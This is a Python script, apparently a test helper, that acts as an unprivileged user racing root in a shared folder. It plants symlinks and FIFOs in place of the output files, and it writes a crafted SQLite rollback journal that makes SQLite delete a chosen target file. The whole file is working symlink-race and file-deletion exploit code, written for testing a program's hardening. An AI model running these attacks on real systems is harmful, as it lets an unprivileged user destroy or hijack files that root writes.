# SPDX-License-Identifier: Apache-2.0
"""A user without rights who owns a folder in which root is about to write.

`attacker.py HOW FOLDER TARGET` says "ready" and goes on until it is killed. It does what it does
to every name that appears in the folder, as fast as it can:

    journal  plants a rollback journal beside it, which makes SQLite delete TARGET
    swap     puts a link to TARGET in its place
    claim    takes the names of the outputs first, for links to TARGET
    flip     the same, for links that lead to TARGET and to /dev/null by turns
    fifo     takes the name of the page first, for a FIFO
"""

# This is a race, and pathlib is slower.
# ruff: noqa: PTH104, PTH108, PTH123, PTH208, PTH211

from __future__ import annotations

import contextlib
import itertools
import os
import struct
import sys

_OUTPUTS = ("run.aiflame", "run.html")

# "The Rollback Journal", section 3 of https://www.sqlite.org/fileformat.html, and pager.c of
# SQLite 3.40: a header of one sector without pages, then the name of a super-journal.
_MAGIC = bytes.fromhex("d9d505f920a163d7")
_SECTOR_BYTES, _PAGE_BYTES = 512, 4096


def _journal(target: str) -> bytes:
    name = os.fsencode(target)
    header = _MAGIC + struct.pack(">5I", 0, 1, 1, _SECTOR_BYTES, _PAGE_BYTES)
    lock_page = (1 << 30) // _PAGE_BYTES + 1
    record = struct.pack(">I", lock_page) + name + struct.pack(">II", len(name), sum(name))
    return header.ljust(_SECTOR_BYTES, b"\0") + record + _MAGIC


def _plant(name: str, content: bytes) -> None:
    if name.endswith("-journal"):
        return
    with open(f"{name}-journal", "xb") as file:
        file.write(content)


def _swap(name: str, target: str, number: int) -> None:
    if name in _OUTPUTS or name.startswith("away"):
        return
    os.rename(name, f"away{number}")
    os.symlink(target, name)


def _claim(name: str, target: str) -> None:
    temporary = "away"
    with contextlib.suppress(FileNotFoundError):
        os.unlink(temporary)
    os.symlink(target, temporary)
    os.rename(temporary, name)


def main() -> None:
    """Attacks."""
    how, folder, target = sys.argv[1:]
    os.chdir(folder)
    content = _journal(target)
    print("ready", flush=True)
    for number in itertools.count():
        # Root is at work in the same folder: nothing of this need succeed.
        with contextlib.suppress(OSError):
            if how in ("journal", "swap"):
                for name in os.listdir():
                    with contextlib.suppress(OSError):
                        if how == "journal":
                            _plant(name, content)
                        else:
                            _swap(name, target, number)
            elif how == "fifo":
                os.mkfifo(_OUTPUTS[1])
            else:
                leads_to = os.devnull if how == "flip" and number % 4 < 2 else target
                _claim(_OUTPUTS[number % 2], leads_to)


if __name__ == "__main__":
    main()
